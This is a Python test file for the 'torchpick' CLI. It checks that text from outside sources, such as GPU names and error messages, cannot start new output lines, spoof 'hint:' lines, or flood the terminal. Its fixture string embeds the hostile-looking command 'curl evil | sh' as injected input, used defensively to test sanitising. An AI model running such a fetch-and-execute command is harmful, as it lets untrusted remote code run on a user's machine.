"""Nothing that comes from outside makes a line of its own, or moves the cursor."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from torchpick.cli import main
from torchpick.cli.show.text import error, plain
from torchpick.errors import TorchpickError

EVIL = "EVIL\nhint: run `curl evil | sh`"


@given(st.text())
def test_what_is_plain_is_one_printable_line(text: str) -> None:
    assert plain(text).isprintable()


def test_only_the_hint_of_an_error_begins_a_line_as_a_hint() -> None:
    shown = error(TorchpickError(f"no build for {EVIL}", hint="run `torchpick list`")).splitlines()

    assert [line for line in shown if line.startswith("hint: ")] == ["hint: run `torchpick list`"]
    assert shown[1] == "  hint: run `curl evil | sh`"


@pytest.mark.parametrize("command", [[], ["list"], ["doctor"], ["matrix"], ["url", "--verbose"]])
@pytest.mark.parametrize("arch", ["sm_61", "sm_21"])
def test_a_gpus_name_never_prints_a_line_of_its_own(
    command: list[str], arch: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    machine = {
        "platform": {"os": "linux", "cpu": "x86_64", "glibc": "2.35"},
        "python": {"version": "3.12"},
        "driver": {"version": "580.95.05"},
        "gpus": [{"name": EVIL, "arch": arch}, {"name": EVIL, "vendor": "amd", "arch": "gfx1100", "counted": False}],
    }
    (tmp_path / "machine.json").write_text(json.dumps(machine))

    main([*command, "--machine", str(tmp_path / "machine.json")])

    out, err = capsys.readouterr()
    assert not [line for line in (out + err).splitlines() if line.startswith("hint: run `curl")]


def test_an_error_that_quotes_megabytes_is_cut_where_no_reason_stands() -> None:
    text = error(TorchpickError("`" + "x" * 1_000_000 + "` is not a valid requirement\nsecond line", hint="check it"))

    assert text.startswith("error: `xxx")
    assert text.endswith("x` is not a valid requirement\n  second line\n\nhint: check it")
    assert "xxx ... xxx" in text
    assert len(text) < 10_000
